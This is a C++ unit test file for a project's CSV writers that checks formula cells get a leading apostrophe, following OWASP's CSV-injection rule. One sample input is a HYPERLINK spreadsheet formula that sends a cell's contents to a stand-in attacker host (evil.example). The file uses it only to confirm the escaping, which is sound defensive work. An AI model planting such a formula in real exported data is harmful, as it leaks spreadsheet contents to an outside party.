// SPDX-License-Identifier: Apache-2.0
// The CSV writers: every text cell is safe to open in a spreadsheet (OWASP's CSV-injection
// rule) and still reads as what was typed.

#include "TestSupport.h"

#include <accueil/core/Csv.h>
#include <accueil/core/DemoRegistrants.h>

using namespace accueil::core;
using accueil::core::test::FormulaCells;
using accueil::core::test::HostileValues;

TEST(Csv, ACellThatWouldRunAsAFormulaGetsALeadingApostrophe) {
    EXPECT_EQ(CsvCell("=1+1"), "'=1+1");
    EXPECT_EQ(CsvCell("+41 22 917 12 34"), "'+41 22 917 12 34");
    EXPECT_EQ(CsvCell("-5"), "'-5");
    EXPECT_EQ(CsvCell("@SUM(A1)"), "'@SUM(A1)");
    EXPECT_EQ(CsvCell("\t=1"), "'\t=1");
    EXPECT_EQ(CsvCell("\r=1"), "\"'\r=1\"");
    EXPECT_EQ(CsvCell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
    // Ordinary values are left as they are, quoted only when they need it.
    EXPECT_EQ(CsvCell("Côte d'Ivoire"), "Côte d'Ivoire");
    EXPECT_EQ(CsvCell("Korea, Republic of"), "\"Korea, Republic of\"");
    EXPECT_EQ(CsvCell("Guinea-Bissau"), "Guinea-Bissau");
    EXPECT_EQ(CsvCell(""), "");
}

// The report writer (`accueil report`, `accueil central report`).
TEST(Csv, TheReportHasNoFormulaCellAndKeepsEveryValueReadable) {
    std::vector<ReportRow> rows;
    for (const auto& value : HostileValues()) {
        rows.push_back(ReportRow{"2025-06-17", "delegation", value, 3, 2, 0});
    }
    const std::string csv = ReportCsv(rows);
    EXPECT_TRUE(FormulaCells(csv).empty()) << csv;
    auto records = ParseCsv(csv, "report.csv");
    ASSERT_TRUE(records.ok());
    ASSERT_EQ(records->size(), rows.size() + 1);
    for (std::size_t i = 0; i < rows.size(); ++i) {
        EXPECT_EQ((*records)[i + 1].fields[2], "'" + rows[i].value);
    }
}

// The registration list writer (`accueil demo-data`).
TEST(Csv, TheRegistrationListHasNoFormulaCell) {
    std::vector<Registrant> people;
    int n = 0;
    for (const auto& value : HostileValues()) {
        Registrant r = test::Person("REG-" + std::to_string(++n), value, value, value, value);
        r.role = value;
        people.push_back(r);
    }
    const std::string csv = ToCsv(people);
    EXPECT_TRUE(FormulaCells(csv).empty()) << csv;
}
